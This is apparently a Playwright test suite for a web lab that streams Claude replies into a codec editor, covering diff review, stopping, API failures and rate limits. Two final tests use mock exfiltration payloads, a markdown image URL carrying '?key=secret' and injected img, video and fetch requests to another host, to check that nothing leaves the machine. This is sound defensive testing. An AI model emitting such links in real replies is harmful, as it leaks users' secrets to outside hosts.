"""Claude in the lab, against the stub of the Messages API: the whole road, the stop button, and every failure."""

from __future__ import annotations

import re

import pytest

from app.claude.errors import BY_STATUS, CUT, STOPPED_BY
from gpu_agent.models import Status

from .codecs import BROKEN, PLAIN
from .programs import wait_for
from .steps import dispatch, open_draft, say, settled, wait_value

pytestmark = pytest.mark.browser

TEXT = "Small differences are mostly noise, so they become zero."


def review(page):
    return page.get_by_role("button", name="Review in editor")


def test_a_reply_streams_is_reviewed_as_a_diff_and_runs(open_page, lab):
    page, draft = open_draft(open_page, lab, PLAIN, {"rates": "4 16"})
    say(page, "Leave small differences out [[stub chunk=30 delay=0.3]]")
    page.get_by_text("Writing · ").first.wait_for()
    page.get_by_role("button", name="Stop").first.wait_for()
    page.locator(".cm-content").click()
    page.keyboard.press("Control+End")
    page.keyboard.type("# typed while Claude writes", delay=60)
    review(page).wait_for()
    wait_for(lambda: lab.saved_draft(draft).text.endswith("# typed while Claude writes"), "the typed text", 30)
    sent = lab.asked_claude()[-1]["body"]["messages"][-1]["content"][0]["text"]
    assert "Plain planes" in sent  # Claude sees what is in the editor
    assert page.get_by_text(TEXT).is_visible()
    page.get_by_text("tokens in").first.wait_for()

    review(page).click()
    page.get_by_role("button", name="Accept all").click()
    page.get_by_role("button", name="In the editor").first.wait_for()
    saved = wait_for(lambda: (d := lab.saved_draft(draft)).baseline == d.text and d, "the accepted diff", 30)
    assert "dead zone" in saved.text
    wait_value(page, "Rates", "")  # those were for another codec's scale
    run = lab.ended(dispatch(page, lab, draft))
    assert run.status is Status.SUCCEEDED
    assert (run.origin.kind, run.origin.prompt[:22]) == ("claude", "Leave small difference")
    page.get_by_text("Y-PSNR and SSIM").first.wait_for()

    say(page, "Now make it faster")
    review(page).wait_for()
    sent = lab.asked_claude()[-1]["body"]["messages"][-1]["content"][0]["text"]
    assert f"- rate 2: {run.results[0].kbps:.1f} kbit/s" in sent  # and what it measured
    page.reload()
    review(page).wait_for()  # the conversation is found again with the draft


def test_stopping_keeps_what_arrived(open_page, lab):
    page, _ = open_draft(open_page, lab, PLAIN)
    say(page, "slowly [[stub chunk=6 delay=0.15]]")
    page.get_by_text("Small differences are").first.wait_for()
    page.get_by_role("button", name="Stop").click()
    page.get_by_text("Stopped; what had arrived is kept.").first.wait_for()
    settled(page)  # the rest of the page is drawn after it
    assert page.get_by_text("Small differences are").is_visible()
    assert review(page).count() == 0
    assert page.get_by_test_id("stChatInputTextArea").is_enabled()


def start(sentence: str) -> str:
    return sentence[:50]


def test_every_failure_is_a_sentence_and_loses_no_text(open_page, lab):
    page, _ = open_draft(open_page, lab, PLAIN)
    for wish, sentence, arrived in (
        ("[[stub status=401]]", BY_STATUS[401], False),
        ("[[stub status=402]]", BY_STATUS[402], False),
        ("[[stub status=529 retry-after=0]]", BY_STATUS[529], False),
        ("[[stub fault=overloaded after=14]]", "Claude's service broke off in the middle of the reply", True),
        ("[[stub fault=truncate after=14]]", CUT, True),
        ("[[stub stop_reason=max_tokens]]", STOPPED_BY["max_tokens"], True),
        ("[[stub stop_reason=refusal]]", "Claude declined this request", False),
    ):
        say(page, f"A wish {wish}")
        page.get_by_text(start(sentence)).first.wait_for()
        settled(page)  # what the reply brings is drawn after it
        assert page.get_by_text(f"A wish {wish}").is_visible()
        if arrived:
            assert page.get_by_text("Small differences").is_visible()
        assert review(page).count() == 0
        page.get_by_role("button", name="New chat").click()
        page.get_by_text("For example:").first.wait_for()


def test_a_rate_limit_is_waited_out(open_page, lab):
    page, _ = open_draft(open_page, lab, PLAIN)
    say(page, "patiently [[stub status=429 times=1 retry-after=50]]")  # seen, and not waited for
    page.get_by_text(re.compile(r" in \d\d? s ")).first.wait_for()
    page.get_by_role("button", name="Stop").click()
    page.get_by_text("Stopped").first.wait_for()
    page.get_by_role("button", name="New chat").click()
    page.get_by_text("For example:").first.wait_for()
    say(page, "patiently again [[stub status=429 times=1 retry-after=1]]")
    review(page).wait_for()


@pytest.mark.parametrize(
    ("kind", "sentence"), [("open", "The code block is not closed"), ("missing", "missing: def decode")]
)
def test_an_unusable_codec_is_repaired_in_one_click(open_page, lab, kind, sentence):
    page, _ = open_draft(open_page, lab, PLAIN)
    say(page, f"something [[stub codec={kind}]]")
    page.get_by_text(sentence).first.wait_for()
    page.get_by_role("button", name="Ask Claude to repair it").click()
    review(page).wait_for()


def test_a_failed_run_says_why_and_goes_to_claude(open_page, lab):
    page, draft = open_draft(open_page, lab, BROKEN)
    run = lab.ended(dispatch(page, lab, draft))
    assert (run.status, run.error.category) == (Status.FAILED, "decode_error")
    page.get_by_text("Failed: decode raised an error").first.wait_for()
    page.get_by_text("What the agent saw: decode_error").first.wait_for()
    page.get_by_text("the tables do not fit").first.wait_for()
    page.get_by_text("Log of the codec").click()
    page.get_by_text("about to fail").last.wait_for()
    page.get_by_role("button", name="Ask Claude to fix it").click()
    review(page).wait_for()
    sent = lab.asked_claude()[-1]["body"]["messages"][-1]["content"][0]["text"]
    assert "decode_error" in sent
    assert "the tables do not fit" in sent


def test_a_picture_in_a_reply_is_text_and_asks_no_other_host(open_page, lab):
    """The page's fixture fails where anything left this machine."""
    page, _ = open_draft(open_page, lab, PLAIN)
    lab.answer_next("It looks so: ![the curve](http://pictures.example/p.png?key=secret) and that is all.")
    say(page, "Show me")
    page.get_by_text("and that is all.").first.wait_for()
    settled(page)
    assert page.get_by_text("![the curve]").count() == 1


def test_the_policy_stops_what_a_page_would_ask_of_another_host(open_page, lab):
    """Should a text be drawn as a picture after all. The request is refused before it is made."""
    page = open_page(lab, expect=("Content Security Policy",))
    page.evaluate(
        """() => {
            window.refused = [];
            document.addEventListener("securitypolicyviolation", e => window.refused.push(e.effectiveDirective));
            for (const kind of ["img", "video"]) {
                const element = document.createElement(kind);
                element.src = "http://127.0.0.1:9/p?key=secret";
                document.body.append(element);
            }
            fetch("http://127.0.0.1:9/p").catch(() => {});
        }"""
    )
    page.wait_for_function("() => window.refused.length === 3")
    assert sorted(page.evaluate("() => window.refused")) == ["connect-src", "img-src", "media-src"]
